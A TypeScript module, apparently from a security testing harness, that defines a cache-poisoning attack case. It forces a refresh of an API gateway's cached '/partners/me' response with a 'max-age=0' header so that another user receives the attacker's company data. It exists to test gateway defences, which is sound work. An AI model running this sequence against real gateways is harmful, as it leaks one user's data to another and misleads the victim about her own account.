import type { Attack } from "../attack.ts";
import { field, summary } from "../exchange.ts";
import { get, identityTwin } from "./shared/requests.ts";

export const cachePoisoning: Attack = {
  id: "cache-poisoning",
  title: "Put one's own answer into the gateway's response cache, for the next user to get",
  owasp: ["SAS-3", "API8:2023", "CWE-349"],
  paper: "III.1.D",
  defences: ["gateway:response-cache"],
  operation: "getPartner",
  target: "partners",
  run: async (context) => {
    await context.send(get(context, "alice", "/partners/me"), "setup");
    // Anybody may renew an entry where the stage asks for no permission (API Gateway Developer Guide, "Invalidate a cache entry").
    const request = get(context, "bob", "/partners/me");
    const poison = await context.send({ ...request, headers: { ...request.headers, "cache-control": "max-age=0" } });
    const victim = await context.send(get(context, "alice", "/partners/me"), "proof");
    const effect = field(victim, "companyId") === context.users.bob.companyId;
    const got = `alice's page is told that she is of ${field(victim, "companyId")}: bob's answer, which he had put there`;
    return {
      effect,
      evidence: effect ? got : `${summary(poison)}; alice is told of company ${field(victim, "companyId")}`,
    };
  },
  twin: (context) => identityTwin(context, "alice"),
};
